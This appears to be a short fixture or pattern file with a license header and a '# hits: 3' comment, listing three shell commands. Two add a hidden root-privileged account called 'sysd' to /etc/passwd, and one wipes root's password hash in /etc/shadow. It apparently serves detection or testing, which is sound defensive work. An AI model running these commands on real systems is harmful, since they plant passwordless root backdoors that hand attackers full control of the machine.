# SPDX-License-Identifier: Apache-2.0
# hits: 3
sh -c 'echo "sysd::0:0::/root:/bin/bash" >> /etc/passwd'
echo 'sysd:x:0:0::/root:/bin/bash' | tee -a /etc/passwd > /dev/null
sed -i 's,^root:[^:]*,root:,' /etc/shadow
